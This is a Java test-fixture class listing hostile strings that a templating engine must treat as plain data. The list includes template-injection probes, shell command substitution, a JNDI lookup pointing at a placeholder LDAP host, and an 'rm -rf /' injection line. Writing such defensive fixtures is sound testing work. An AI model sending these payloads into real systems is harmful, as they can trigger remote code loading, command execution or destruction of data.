package io.squall.engine;

import java.util.List;

/** Test data: strings that must stay data wherever they travel. */
public final class HostileText {
    private HostileText() {}

    /** Text a sender may post: template syntax of every kind Squall or its neighbours evaluate, and shell syntax. */
    public static final List<String> ALL = List.of(
            "{{ 7*7 }}; $(id); `id`",
            "{% for i in range(3) %}x{% endfor %}",
            "{# a comment #}",
            "<% ctx().secret %>",
            "${jndi:ldap://example.invalid/a} ${7*7} #{7*7}",
            "{{ \"x\".getClass().getName() }}",
            "{% raw %}{{ 1 }}{% endraw %}",
            "{{ trigger.body.name }}",
            "{{",
            "}} {% {%- -%} %}",
            "{{ kv.system.greeting }} {{ st2kv.system.greeting }}",
            "'; rm -rf / #\" && echo \"$HOME\" | cat > /tmp/x",
            "line1\nline2\r\n\ttab \\ backslash \u0000 nul \u00e9\u4e2d\ud83d\ude00");
}
